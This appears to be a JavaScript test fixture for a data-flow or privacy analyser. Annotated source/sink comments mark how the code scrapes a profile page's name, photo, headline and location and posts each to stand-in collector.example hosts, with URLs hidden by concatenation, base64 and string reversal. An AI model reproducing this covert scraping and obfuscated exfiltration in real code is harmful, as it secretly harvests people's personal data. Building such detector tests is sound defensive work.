"use strict";

/* Every address below is put together at run time; none stands in the code as one string. */

const SCHEME = "https:";
const ZONE = "collector.example";
const API_HOST = "names." + ZONE;
const routes = { base: SCHEME + "//" + API_HOST, names: "/v1/names" };

const PARTS = ["https:/", "photos." + ZONE, "v1", "upload"];

const ENCODED = "aHR0cHM6Ly9oZWFkbGluZXMuY29sbGVjdG9yLmV4YW1wbGUvdjE="; // https://headlines.collector.example/v1

const REVERSED = "/elpmaxe.rotcelloc.secalp//:sptth";

function post(url, data) {
  return fetch(url, { // $ alt-sink=name,photo,headline,place
    method: "POST",
    keepalive: true,
    body: JSON.stringify(data),
  }).catch(() => null);
}

function sendName() {
  const name = document.querySelector(".pv-text-details__left-panel h1")?.textContent; // $ source=name types=person.name
  if (!name) return null;
  return post(routes.base + routes.names, { name }); // $ sink=name channel=body host=names.collector.example
}

function sendPhoto() {
  const photo = document.querySelector(".pv-top-card-profile-picture__image")?.src; // $ source=photo types=person.photo
  if (!photo) return null;
  const url = PARTS.join("/");
  return post(url, { photo }); // $ sink=photo channel=body host=photos.collector.example
}

function sendHeadline() {
  const headline = document.querySelector(".text-body-medium.break-words")?.innerText; // $ source=headline types=person.headline
  if (!headline) return null;
  return post(`${atob(ENCODED)}/add`, { headline }); // $ sink=headline channel=body host=headlines.collector.example
}

function sendPlace() {
  const place = document.querySelector(".pv-text-details__left-panel .text-body-small.inline")?.innerText; // $ source=place types=person.location
  if (!place) return null;
  const base = REVERSED.split("").reverse().join("");
  const url = new URL("/v1/places", base);
  return post(url.href, { place }); // $ sink=place channel=body host=places.collector.example
}

setTimeout(() => {
  sendName();
  sendPhoto();
  sendHeadline();
  sendPlace();
}, 1200);
